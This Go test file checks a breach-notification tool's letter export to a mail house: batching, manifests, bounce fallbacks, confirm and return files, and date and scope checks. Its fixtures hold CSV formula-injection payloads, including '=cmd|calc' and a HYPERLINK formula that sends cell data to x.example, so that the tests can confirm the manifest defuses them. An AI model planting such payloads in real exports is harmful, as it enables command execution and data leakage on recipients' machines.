package mailhouse_test

import (
	"archive/zip"
	"bytes"
	"context"
	"database/sql"
	"encoding/csv"
	"encoding/json"
	"errors"
	"io"
	"os"
	"path/filepath"
	"slices"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/breachnotice/breachnotice/incident"
	"github.com/breachnotice/breachnotice/incident/storetest"
	"github.com/breachnotice/breachnotice/notify"
	"github.com/breachnotice/breachnotice/notify/ledger"
	"github.com/breachnotice/breachnotice/notify/letter/mailhouse"
	"github.com/breachnotice/breachnotice/templates/golden"
)

// letterStore opens a store whose journal is the delivery ledger and
// plans an incident whose people are owed letters.
func letterStore(t *testing.T) (*incident.Store, int64) {
	t.Helper()
	return letterStoreOn(t, storetest.Default())
}

// letterStoreOn is letterStore on a store of kind k.
func letterStoreOn(t *testing.T, k storetest.Kind) (*incident.Store, int64) {
	t.Helper()
	ctx := context.Background()
	st := storetest.OpenOn(t, k)
	led, err := ledger.New([]byte("letters-test-secret-0123456789"), st.Now)
	if err != nil {
		t.Fatal(err)
	}
	st.Journal = led
	id := storetest.ScopedIncident(t, st, `id,name,email,locale,country,region,postal_line1,postal_line2,city,postal_code,e_consent,status
l1,Ana García,,es-US,US,CA,1 Main St,Apt 4,Los Angeles,90012,false,active
l2,Seán O'Brien,,en,US,TX,2 Oak Ave,,Austin,78701,false,active
l3,Zoë Łukasiewicz,,en,US,NY,3 Elm St,,Albany,12207,false,active
l4,=cmd|calc,,en,US,CA,4 Pine St,,Fresno,93650,false,active
e1,Eve,eve@example.org,en,US,CA,5 Bay St,,Oakland,94607,true,active
u1,Uma,,en,US,CA,6 Hill St,,Sacramento,95814,false,active
`, incident.ElemName, incident.ElemSSN)
	if _, err := notify.MakePlan(ctx, st, id); err != nil {
		t.Fatal(err)
	}
	// u1's address lost its city after planning: still owed a letter, but
	// it cannot be printed.
	if res, err := st.ImportAccounts(ctx, strings.NewReader("id,name,country,region,postal_line1,city,postal_code\nu1,Uma,US,CA,6 Hill St,,95814\n"),
		incident.ImportOptions{File: "u.csv"}); err != nil || res.Rejected > 0 {
		t.Fatalf("re-import: %+v %v", res, err)
	}
	return st, id
}

func letterKinds(t *testing.T, st *incident.Store) map[ledger.Kind]int {
	t.Helper()
	kinds := map[ledger.Kind]int{}
	err := ledger.FindEntries(context.Background(), st.DB(), ledger.EntryFilter{Controller: "op"}, func(e ledger.Entry) error {
		kinds[e.Kind]++
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return kinds
}

func noticeIDs(t *testing.T, st *incident.Store, id int64) map[string]int64 {
	t.Helper()
	rows, err := st.DB().Query(`SELECT account_id, id FROM notices WHERE incident_id = ? AND channel = 'letter'`, id)
	if err != nil {
		t.Fatal(err)
	}
	defer rows.Close()
	m := map[string]int64{}
	for rows.Next() {
		var a string
		var n int64
		rows.Scan(&a, &n)
		m[a] = n
	}
	return m
}

func zipMembers(t *testing.T, path string) map[string][]byte {
	t.Helper()
	zr, err := zip.OpenReader(path)
	if err != nil {
		t.Fatal(err)
	}
	defer zr.Close()
	m := map[string][]byte{}
	for _, f := range zr.File {
		rc, _ := f.Open()
		b, _ := io.ReadAll(rc)
		rc.Close()
		m[f.Name] = b
	}
	return m
}

func names(m map[string][]byte) string {
	var s []string
	for k := range m {
		s = append(s, k)
	}
	sort.Strings(s)
	return strings.Join(s, " ")
}

func stats(t *testing.T, st *incident.Store, id int64) notify.LetterCounts {
	t.Helper()
	lc, err := notify.FindLetterCounts(context.Background(), st, id)
	if err != nil {
		t.Fatal(err)
	}
	return lc
}

func TestLetters_RoundTrip(t *testing.T) {
	ctx := context.Background()
	st, id := letterStore(t)
	dir := t.TempDir()

	n, err := notify.QueueLetters(ctx, st, id)
	if err != nil || n != 4 {
		t.Fatalf("QueueLetters = %d, %v; want 4 (u1 unprintable, e1 by email)", n, err)
	}
	if n, err := notify.QueueLetters(ctx, st, id); err != nil || n != 0 {
		t.Fatalf("second QueueLetters = %d, %v; want 0", n, err)
	}
	if lc := stats(t, st, id); lc.States["queued"] != 4 || lc.States["unprintable"] != 1 || lc.Substitute != 1 {
		t.Fatalf("stats after queue: %+v", lc)
	}
	if k := letterKinds(t, st); k[ledger.KindLetterQueued] != 4 || k[ledger.KindLetterUnprintable] != 1 {
		t.Fatalf("ledger: %v, want 4 letter_queued and 1 letter_unprintable", k)
	}

	// Batch 1: the four queued letters.
	out1 := filepath.Join(dir, "b1.zip")
	res, err := mailhouse.Export(ctx, st, id, out1, "")
	if err != nil || res.Batch != "B1-1" || res.Letters != 4 {
		t.Fatalf("export: %+v, %v", res, err)
	}
	ids := noticeIDs(t, st, id)
	m1 := zipMembers(t, out1)
	golden.Check(t, "letters_manifest_b1", string(m1["manifest.csv"]))
	if got, want := len(m1), 5; got != want {
		t.Errorf("batch 1 has %d files (%s), want %d", got, names(m1), want)
	}
	for _, a := range []string{"l1", "l2", "l3", "l4"} {
		if pdf := m1[mailhouse.LetterID(ids[a])+".pdf"]; !bytes.HasPrefix(pdf, []byte("%PDF-")) {
			t.Errorf("batch 1 lacks %s's letter", a)
		}
	}
	if !strings.Contains(string(m1["manifest.csv"]), "'=cmd|calc") {
		t.Errorf("manifest does not defuse a formula in a name")
	}

	// An email fails permanently: a fallback letter is queued once.
	var queued, again bool
	err = st.InTx(ctx, func(tx *sql.Tx) error {
		var err error
		if queued, err = notify.QueueFallbackLetter(ctx, tx, id, "e1", "550 mailbox unavailable", st.Now()); err != nil {
			return err
		}
		again, err = notify.QueueFallbackLetter(ctx, tx, id, "e1", "550 again", st.Now())
		return err
	})
	if err != nil || !queued || again {
		t.Fatalf("QueueFallbackLetter = %v then %v, %v; want true then false", queued, again, err)
	}
	err = st.InTx(ctx, func(tx *sql.Tx) error {
		ok, err := notify.QueueFallbackLetter(ctx, tx, id, "u1", "550", st.Now())
		if ok {
			t.Errorf("fallback letter queued for an incomplete address")
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	var fallback map[string]string
	ledger.FindEntries(ctx, st.DB(), ledger.EntryFilter{Controller: "op", Account: "e1"}, func(e ledger.Entry) error {
		if e.Kind == ledger.KindLetterQueued {
			json.Unmarshal(e.Detail, &fallback)
		}
		return nil
	})
	if fallback["fallback_from"] != "email" || fallback["reason"] != "550 mailbox unavailable" || fallback["deadline"] == "" || fallback["jurisdiction"] != "US-CA" {
		t.Errorf("fallback letter_queued detail: %v", fallback)
	}

	// Batch 2 holds only the new letter; then there is nothing left.
	out2 := filepath.Join(dir, "b2.zip")
	res, err = mailhouse.Export(ctx, st, id, out2, "")
	if err != nil || res.Batch != "B1-2" || res.Letters != 1 {
		t.Fatalf("second export: %+v, %v", res, err)
	}
	ids = noticeIDs(t, st, id)
	if got, want := names(zipMembers(t, out2)), mailhouse.LetterID(ids["e1"])+".pdf manifest.csv"; got != want {
		t.Errorf("batch 2 holds %s, want %s", got, want)
	}
	res, err = mailhouse.Export(ctx, st, id, filepath.Join(dir, "b3.zip"), "")
	if err != nil || res.Letters != 0 {
		t.Fatalf("third export: %+v, %v; want nothing", res, err)
	}
	if _, err := os.Stat(filepath.Join(dir, "b3.zip")); !os.IsNotExist(err) {
		t.Errorf("an empty export wrote a file")
	}

	// --again reproduces batch 1 byte for byte, even a day later.
	st.Now = func() time.Time { return time.Date(2026, 11, 29, 9, 0, 0, 0, time.UTC) }
	outA := filepath.Join(dir, "b1-again.zip")
	res, err = mailhouse.Export(ctx, st, id, outA, "B1-1")
	if err != nil || res.Batch != "B1-1" || res.Letters != 4 {
		t.Fatalf("export again: %+v, %v", res, err)
	}
	a, b := zipMembers(t, out1), zipMembers(t, outA)
	for name := range a {
		if !bytes.Equal(a[name], b[name]) {
			t.Errorf("--again: %s differs", name)
		}
	}
	if len(a) != len(b) {
		t.Errorf("--again: %d files, want %d", len(b), len(a))
	}
	if _, err := mailhouse.Export(ctx, st, id, outA, "B9-9"); err == nil {
		t.Errorf("export of an unknown batch succeeded")
	}
	// Each letter is in exactly one batch.
	var multi int
	st.DB().QueryRow(`SELECT count(*) FROM notices WHERE channel='letter' AND state='exported' AND batch NOT IN ('B1-1','B1-2')`).Scan(&multi)
	if lc := stats(t, st, id); lc.States["exported"] != 5 || multi != 0 {
		t.Fatalf("after exports: %+v, %d outside the two batches", lc, multi)
	}

	// The mail house confirms; bad lines are reported, good ones commit.
	L := func(a string) string { return mailhouse.LetterID(ids[a]) }
	confirm := "letter_id,mailed_at,tracking\n" +
		L("l1") + ",2026-11-28,TRK-1\n" +
		L("l2") + ",2026-11-28T10:00:00Z\n" +
		"L999999,2026-11-28\n" +
		L("l1") + ",2026-11-28\n" +
		L("l3") + ",28/11/2026\n" +
		L("u1") + ",2026-11-28\n" +
		L("l4") + ",2027-01-01\n" +
		"x,2026-11-28\n"
	var problems []string
	report := func(p incident.Problem) { problems = append(problems, p.String()) }
	cr, err := mailhouse.Confirm(ctx, st, strings.NewReader(confirm), mailhouse.FileOptions{File: "mailed.csv"}, report)
	if err != nil || cr.Accepted != 2 || cr.Rejected != 6 {
		t.Fatalf("confirm: %+v, %v", cr, err)
	}
	golden.Check(t, "letters_confirm_problems", strings.Join(problems, "\n")+"\n")
	problems = nil
	cr, err = mailhouse.Confirm(ctx, st, strings.NewReader(L("l2")+",2026-11-28\n"+L("l3")+",2026-11-28\n"), mailhouse.FileOptions{File: "again.csv"}, report)
	if err != nil || cr.Accepted != 1 || cr.Rejected != 1 || !strings.Contains(problems[0], "again.csv:1: letter_id: "+L("l2")+" is already mailed") {
		t.Fatalf("confirm again: %+v %v %q", cr, err, problems)
	}

	// One letter comes back.
	problems = nil
	rr, err := mailhouse.Returned(ctx, st, strings.NewReader("letter_id,returned_at,reason\n"+L("l1")+",2026-11-29,moved away\n"+L("l1")+",2026-11-29\n"), mailhouse.FileOptions{File: "returned.csv"}, report)
	if err != nil || rr.Accepted != 1 || rr.Rejected != 1 {
		t.Fatalf("returned: %+v, %v %q", rr, err, problems)
	}
	lc := stats(t, st, id)
	want := map[string]int{"mailed": 2, "returned": 1, "exported": 2, "unprintable": 1}
	for s, n := range want {
		if lc.States[s] != n {
			t.Errorf("state %s: %d letters, want %d (%+v)", s, lc.States[s], n, lc)
		}
	}
	if lc.Substitute != 2 || lc.Total != 6 {
		t.Errorf("stats: %+v", lc)
	}
	k := letterKinds(t, st)
	if k[ledger.KindLetterQueued] != 5 || k[ledger.KindLetterMailed] != 3 || k[ledger.KindLetterReturned] != 1 ||
		k[ledger.KindLetterUnprintable] != 1 || k[ledger.KindLetterExported] != lc.Total-lc.States["queued"]-lc.States["unprintable"] {
		t.Errorf("ledger kinds: %v (letters %+v): every exported letter has a letter_exported entry", k, lc)
	}
	var tracking, final string
	st.DB().QueryRow(`SELECT tracking, final_at FROM notices WHERE id = ?`, ids["l1"]).Scan(&tracking, &final)
	if tracking != "TRK-1" || final != "2026-11-28T00:00:00Z" {
		t.Errorf("l1: tracking %q final_at %q", tracking, final)
	}
}

func TestLetters_Hold(t *testing.T) {
	ctx := context.Background()
	st, id := letterStore(t)
	if _, err := notify.QueueLetters(ctx, st, id); err != nil {
		t.Fatal(err)
	}
	if _, err := st.HoldIncident(ctx, id, "police request"); err != nil {
		t.Fatal(err)
	}
	if _, err := mailhouse.Export(ctx, st, id, filepath.Join(t.TempDir(), "x.zip"), ""); err == nil {
		t.Fatal("export under a law-enforcement hold succeeded")
	}
}

// Issue 10, item 4: an operation reads the clock once, and everything it
// writes carries that time, even when the clock moves on (here past
// midnight) while it runs.
func TestLetters_OneClock(t *testing.T) {
	ctx := context.Background()
	st, id := letterStore(t)
	if _, err := notify.QueueLetters(ctx, st, id); err != nil {
		t.Fatal(err)
	}
	// Every reading is a second later: the first one is the last second of
	// 2026-11-28.
	tick := time.Date(2026, 11, 28, 23, 59, 58, 0, time.UTC)
	st.Now = func() time.Time {
		tick = tick.Add(time.Second)
		return tick
	}
	// times returns the distinct times the rows of query hold.
	times := func(query string, args ...any) []string {
		t.Helper()
		rows, err := st.DB().Query(query, args...)
		if err != nil {
			t.Fatal(err)
		}
		defer rows.Close()
		var out []string
		for rows.Next() {
			var s string
			if err := rows.Scan(&s); err != nil {
				t.Fatal(err)
			}
			if !slices.Contains(out, s) {
				out = append(out, s)
			}
		}
		return out
	}
	ledgerTimes := func(kind ledger.Kind) []string {
		t.Helper()
		var out []string
		ledger.FindEntries(ctx, st.DB(), ledger.EntryFilter{Controller: "op"}, func(e ledger.Entry) error {
			if at := e.At.UTC().Format(time.RFC3339Nano); e.Kind == kind && !slices.Contains(out, at) {
				out = append(out, at)
			}
			return nil
		})
		return out
	}
	one := func(what string, got ...[]string) {
		t.Helper()
		var all []string
		for _, g := range got {
			if len(g) == 0 {
				t.Fatalf("%s: no times", what)
			}
			all = append(all, g...)
		}
		slices.Sort(all)
		if all = slices.Compact(all); len(all) != 1 {
			t.Errorf("%s: times %v, want one", what, all)
		}
	}

	dir := t.TempDir()
	b1 := filepath.Join(dir, "b1.zip")
	if res, err := mailhouse.Export(ctx, st, id, b1, ""); err != nil || res.Letters != 4 {
		t.Fatalf("export: %+v, %v", res, err)
	}
	one("export", times(`SELECT updated_at FROM notices WHERE batch = 'B1-1'`),
		times(`SELECT at FROM audit WHERE action = 'letters.export'`), ledgerTimes(ledger.KindLetterExported))
	// The batch is dated by the same reading: written again a day later, it
	// is the same bytes.
	tick = tick.Add(24 * time.Hour)
	again := filepath.Join(dir, "b1-again.zip")
	if _, err := mailhouse.Export(ctx, st, id, again, "B1-1"); err != nil {
		t.Fatal(err)
	}
	a, b := zipMembers(t, b1), zipMembers(t, again)
	for name := range a {
		if !bytes.Equal(a[name], b[name]) {
			t.Errorf("written again, %s differs", name)
		}
	}

	var ids []string
	for _, n := range noticeIDs(t, st, id) {
		ids = append(ids, mailhouse.LetterID(n))
	}
	slices.Sort(ids)
	body := ids[0] + ",2026-11-29\n" + ids[1] + ",2026-11-29\n" + ids[2] + ",2026-11-29\n"
	if res, problems, err := letterFile(t, ctx, st, false, mailhouse.FileOptions{File: "m.csv"}, body); err != nil || res.Accepted != 3 {
		t.Fatalf("confirm: %+v, %v, %q", res, err, problems)
	}
	one("confirm", times(`SELECT updated_at FROM notices WHERE state = 'mailed'`),
		times(`SELECT at FROM audit WHERE action = 'letters.letter_mailed'`), ledgerTimes(ledger.KindLetterMailed))
}

// exportedLetters plans, queues and exports the letters of incident id
// and returns their ids by account.
func exportedLetters(t *testing.T, st *incident.Store, id int64) map[string]string {
	t.Helper()
	ctx := context.Background()
	if _, err := notify.QueueLetters(ctx, st, id); err != nil {
		t.Fatal(err)
	}
	if res, err := mailhouse.Export(ctx, st, id, filepath.Join(t.TempDir(), "b.zip"), ""); err != nil || res.Letters == 0 {
		t.Fatalf("export: %+v, %v", res, err)
	}
	ids := map[string]string{}
	for a, n := range noticeIDs(t, st, id) {
		ids[a] = mailhouse.LetterID(n)
	}
	return ids
}

// twoControllers is letterStore's incident of the operator "op" with its
// letters exported (by account: opL), and an incident of the member "m2",
// whose course l1 and l2 took, with theirs (m2L).
func twoControllers(t *testing.T) (st *incident.Store, opL, m2L map[string]string) {
	t.Helper()
	ctx := context.Background()
	st, id := letterStore(t)
	opL = exportedLetters(t, st, id)
	if err := st.CreateController(ctx, &incident.Controller{ID: "m2", Name: "Member Two", Member: true, From: "n@m2.example"}); err != nil {
		t.Fatal(err)
	}
	if res, err := st.ImportCourses(ctx, strings.NewReader("course_id,member_id,title\nc1,m2,Course\n"), incident.ImportOptions{File: "c.csv"}); err != nil || res.Rejected > 0 {
		t.Fatalf("courses: %+v %v", res, err)
	}
	if res, err := st.ImportEnrollments(ctx, strings.NewReader("account_id,course_id\nl1,c1\nl2,c1\n"), incident.ImportOptions{File: "e.csv"}); err != nil || res.Rejected > 0 {
		t.Fatalf("enrollments: %+v %v", res, err)
	}
	inc, err := st.CreateIncident(ctx, incident.NewIncident{ControllerID: "m2", Title: "t2", Discovered: storetest.Discovered,
		Elements: []incident.Element{incident.ElemName, incident.ElemSSN}})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := st.ScopeIncident(ctx, inc.ID, incident.ScopeRule{All: true}, nil); err != nil {
		t.Fatal(err)
	}
	if _, err := notify.MakePlan(ctx, st, inc.ID); err != nil {
		t.Fatal(err)
	}
	m2L = exportedLetters(t, st, inc.ID)
	if len(m2L) != 2 {
		t.Fatalf("m2 letters: %v, want l1's and l2's", m2L)
	}
	return st, opL, m2L
}

// letterFile applies a mail-house file and returns its result and
// problems.
func letterFile(t *testing.T, ctx context.Context, st *incident.Store, returned bool, opt mailhouse.FileOptions, body string) (mailhouse.FileResult, []string, error) {
	t.Helper()
	var problems []string
	report := func(p incident.Problem) {
		s := p.String()
		if p.Warning {
			s += " (warning)"
		}
		problems = append(problems, s)
	}
	apply := mailhouse.Confirm
	if returned {
		apply = mailhouse.Returned
	}
	res, err := apply(ctx, st, strings.NewReader(body), opt, report)
	return res, problems, err
}

func noticeRow(t *testing.T, st *incident.Store, letterID string) (state, final, tracking, reply string) {
	t.Helper()
	err := st.DB().QueryRow(`SELECT state, final_at, tracking, last_reply FROM notices WHERE id = ?`,
		strings.TrimPrefix(letterID, "L")).Scan(&state, &final, &tracking, &reply)
	if err != nil {
		t.Fatal(err)
	}
	return state, final, tracking, reply
}

// Issue 9, finding 12: mail-house dates are checked against the letter's
// own history and the clock, free text is cleaned and capped, and a file
// is scoped to one controller.
func TestLetters_MailHouseChecks(t *testing.T) {
	ctx := context.Background()

	t.Run("Dates", func(t *testing.T) {
		st, id := letterStore(t)
		L := exportedLetters(t, st, id) // exported on 2026-11-28 (storetest.Now)
		// A mailed date before the export, a date within a day of slack,
		// one beyond it; the good lines commit.
		res, problems, err := letterFile(t, ctx, st, false, mailhouse.FileOptions{File: "m.csv"},
			"letter_id,mailed_at\n"+
				L["l1"]+",2026-11-27\n"+
				L["l2"]+",2026-11-28\n"+
				L["l3"]+",2026-11-29\n"+
				L["l4"]+",2026-11-30\n")
		if err != nil || res.Accepted != 2 || res.Rejected != 2 {
			t.Fatalf("confirm: %+v, %v, %q", res, err, problems)
		}
		want := []string{
			"m.csv:2: mailed_at: 2026-11-27 is before " + L["l1"] + " was exported (2026-11-28)",
			"m.csv:5: mailed_at: 2026-11-30 is in the future",
		}
		if strings.Join(problems, "\n") != strings.Join(want, "\n") {
			t.Errorf("problems:\n%s\nwant:\n%s", strings.Join(problems, "\n"), strings.Join(want, "\n"))
		}
		if s, _, _, _ := noticeRow(t, st, L["l1"]); s != notify.StateExported {
			t.Errorf("l1 is %s after a rejected line", s)
		}

		// A returned date before the mailed date, or before the export for
		// a letter never confirmed; same-day and later are fine.
		st.Now = func() time.Time { return time.Date(2026, 12, 3, 12, 0, 0, 0, time.UTC) }
		res, problems, err = letterFile(t, ctx, st, true, mailhouse.FileOptions{File: "r.csv"},
			L["l2"]+",2026-11-27T23:00:00Z,early\n"+
				L["l3"]+",2026-11-28,early\n"+
				L["l1"]+",2026-11-20,early\n"+
				L["l4"]+",2026-11-28,same day as export\n")
		if err != nil || res.Accepted != 1 || res.Rejected != 3 {
			t.Fatalf("returned: %+v, %v, %q", res, err, problems)
		}
		want = []string{
			"r.csv:1: returned_at: 2026-11-27T23:00:00Z is before " + L["l2"] + " was exported (2026-11-28)",
			"r.csv:2: returned_at: 2026-11-28 is before " + L["l3"] + " was mailed (2026-11-29)",
			"r.csv:3: returned_at: 2026-11-20 is before " + L["l1"] + " was exported (2026-11-28)",
		}
		if strings.Join(problems, "\n") != strings.Join(want, "\n") {
			t.Errorf("problems:\n%s\nwant:\n%s", strings.Join(problems, "\n"), strings.Join(want, "\n"))
		}
		res, problems, err = letterFile(t, ctx, st, true, mailhouse.FileOptions{File: "r2.csv"}, L["l3"]+",2026-11-29\n")
		if err != nil || res.Accepted != 1 || len(problems) != 0 {
			t.Errorf("returned the day it was mailed: %+v, %v, %q", res, err, problems)
		}
	})

	t.Run("FreeText", func(t *testing.T) {
		st, id := letterStore(t)
		L := exportedLetters(t, st, id)
		long := strings.Repeat("é", mailhouse.MaxText+100)
		// A quoted reason spanning lines 2 to 5, with a tab, a blank line, a
		// control character and a CR; the line after it is line 6.
		res, problems, err := letterFile(t, ctx, st, true, mailhouse.FileOptions{File: "r.csv"},
			"letter_id,returned_at,reason\n"+
				L["l1"]+",2026-11-28,\"moved\taway\n\nno\x07 forwarding\r\n\"\n"+
				L["l2"]+",2026-11-28,"+long+"\n"+
				"L999999,2026-11-28,x\n")
		if err != nil || res.Accepted != 2 || res.Rejected != 1 || res.Warnings != 1 {
			t.Fatalf("returned: %+v, %v, %q", res, err, problems)
		}
		want := []string{
			"r.csv:6: reason: longer than 500 characters: cut to 500 (warning)",
			"r.csv:7: letter_id: unknown letter L999999",
		}
		if strings.Join(problems, "\n") != strings.Join(want, "\n") {
			t.Errorf("problems:\n%s\nwant:\n%s", strings.Join(problems, "\n"), strings.Join(want, "\n"))
		}
		if _, _, _, reply := noticeRow(t, st, L["l1"]); reply != "moved away no forwarding" {
			t.Errorf("l1's reason is %q, want it on one clean line", reply)
		}
		if _, _, _, reply := noticeRow(t, st, L["l2"]); reply != strings.Repeat("é", mailhouse.MaxText) {
			t.Errorf("l2's reason has %d runes, want %d", len([]rune(reply)), mailhouse.MaxText)
		}
		var details []string
		ledger.FindEntries(ctx, st.DB(), ledger.EntryFilter{Controller: "op"}, func(e ledger.Entry) error {
			if e.Kind == ledger.KindLetterReturned {
				details = append(details, string(e.Detail))
			}
			return nil
		})
		if len(details) != 2 || !strings.Contains(details[0], `"reason":"moved away no forwarding"`) || strings.Count(details[1], "é") != mailhouse.MaxText {
			t.Errorf("ledger details: %q", details)
		}
		// A hostile value is quoted, cut, in the reason.
		_, problems, _ = letterFile(t, ctx, st, false, mailhouse.FileOptions{File: "m.csv"}, strings.Repeat("x", 100000)+",2026-11-28\n")
		if len(problems) != 1 || len(problems[0]) > 120 || !strings.HasPrefix(problems[0], `m.csv:1: letter_id: "xxxx`) {
			t.Errorf("long id: %d problems, the first %d bytes long", len(problems), len(problems[0]))
		}
	})

	t.Run("SeveralControllers", func(t *testing.T) {
		st, opL, m2L := twoControllers(t)
		body := "letter_id,mailed_at\n" +
			opL["l1"] + ",2026-11-28\n" +
			m2L["l1"] + ",2026-11-28\n" +
			opL["l2"] + ",2026-11-28\n" +
			"L999999,2026-11-28\n" +
			m2L["l2"] + ",2026-11-28\n"
		// Unscoped: refused whole, naming whose lines are whose.
		_, problems, err := letterFile(t, ctx, st, false, mailhouse.FileOptions{File: "m.csv"}, body)
		var mixed *mailhouse.MixedControllersError
		if !errors.As(err, &mixed) || !errors.Is(err, incident.ErrInvalid) || len(problems) != 0 {
			t.Fatalf("mixed file: %v, %q; want a MixedControllersError", err, problems)
		}
		if want := "invalid: m.csv: letters of 2 controllers (m2 on lines 3, 6; op on lines 2, 4): nothing applied: scope the file to one controller"; err.Error() != want {
			t.Errorf("mixed file: %q\nwant %q", err, want)
		}
		if k := letterKinds(t, st); k[ledger.KindLetterMailed] != 0 {
			t.Fatalf("a refused file recorded %d letter_mailed entries", k[ledger.KindLetterMailed])
		}

		// --controller op: m2's letters read as unknown, like L999999.
		res, problems, err := letterFile(t, ctx, st, false, mailhouse.FileOptions{File: "m.csv", Controller: "op"}, body)
		if err != nil || res.Accepted != 2 || res.Rejected != 3 || res.Controller != "op" {
			t.Fatalf("scoped to op: %+v, %v, %q", res, err, problems)
		}
		want := []string{
			"m.csv:3: letter_id: unknown letter " + m2L["l1"],
			"m.csv:5: letter_id: unknown letter L999999",
			"m.csv:6: letter_id: unknown letter " + m2L["l2"],
		}
		if strings.Join(problems, "\n") != strings.Join(want, "\n") {
			t.Errorf("problems:\n%s\nwant:\n%s", strings.Join(problems, "\n"), strings.Join(want, "\n"))
		}

		// A file scoped to one controller: the operator's letters (here
		// already mailed) read as unknown, not as "already mailed".
		res, problems, err = letterFile(t, ctx, st, false, mailhouse.FileOptions{File: "m.csv", Controller: "m2"}, body)
		if err != nil || res.Accepted != 2 || res.Rejected != 3 || res.Controller != "m2" {
			t.Fatalf("scoped to m2: %+v, %v, %q", res, err, problems)
		}
		want = []string{
			"m.csv:2: letter_id: unknown letter " + opL["l1"],
			"m.csv:4: letter_id: unknown letter " + opL["l2"],
			"m.csv:5: letter_id: unknown letter L999999",
		}
		if strings.Join(problems, "\n") != strings.Join(want, "\n") {
			t.Errorf("member problems:\n%s\nwant:\n%s", strings.Join(problems, "\n"), strings.Join(want, "\n"))
		}
		// Member staff read their letters; they apply no mail-house file,
		// and another controller's is not found.
		member := incident.WithActor(ctx, incident.Actor{Name: "staff", Role: incident.RoleMember, Controller: "m2"})
		if _, _, err := letterFile(t, member, st, true, mailhouse.FileOptions{File: "r.csv"}, body); !errors.Is(err, incident.ErrForbidden) {
			t.Errorf("member applying a file: %v, want forbidden", err)
		}
		if _, _, err := letterFile(t, member, st, true, mailhouse.FileOptions{File: "r.csv", Controller: "op"}, body); !errors.Is(err, incident.ErrNotFound) {
			t.Errorf("member scoping a file to another controller: %v, want not found", err)
		}
		if k := letterKinds(t, st); k[ledger.KindLetterMailed] != 2 {
			t.Errorf("op's ledger has %d letter_mailed entries, want 2", k[ledger.KindLetterMailed])
		}
	})
}

// Issue 9, finding 13: no manifest cell can be read as a formula, the
// account id included.
func TestLetters_ManifestNeutralisesEveryCell(t *testing.T) {
	ctx := context.Background()
	st := storetest.Open(t)
	id := storetest.ScopedIncident(t, st, `id,name,country,region,postal_line1,city,postal_code,e_consent,status
"=HYPERLINK(""http://x.example/?""&A1)",Ann,US,CA,1 Main St,Los Angeles,90012,false,active
+1,@Bob,US,CA,2 Main St,Los Angeles,90012,false,active
-2,Cy,US,CA,-3 Main St,Los Angeles,90012,false,active
@SUM(A1),Dee,US,CA,4 Main St,=Los Angeles,90012,false,active
`, incident.ElemName, incident.ElemSSN)
	if _, err := notify.MakePlan(ctx, st, id); err != nil {
		t.Fatal(err)
	}
	if _, err := notify.QueueLetters(ctx, st, id); err != nil {
		t.Fatal(err)
	}
	out := filepath.Join(t.TempDir(), "b.zip")
	if res, err := mailhouse.Export(ctx, st, id, out, ""); err != nil || res.Letters != 4 {
		t.Fatalf("export: %+v, %v", res, err)
	}
	rows, err := csv.NewReader(bytes.NewReader(zipMembers(t, out)["manifest.csv"])).ReadAll()
	if err != nil || len(rows) != 5 {
		t.Fatalf("manifest: %d rows, %v", len(rows), err)
	}
	accounts := map[string]bool{}
	for _, row := range rows[1:] {
		for i, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("manifest column %s: %q can be read as a formula", rows[0][i], cell)
			}
		}
		accounts[row[1]] = true
	}
	for _, a := range []string{`'=HYPERLINK("http://x.example/?"&A1)`, "'+1", "'-2", "'@SUM(A1)"} {
		if !accounts[a] {
			t.Errorf("manifest lacks account %q (has %v)", a, accounts)
		}
	}
}
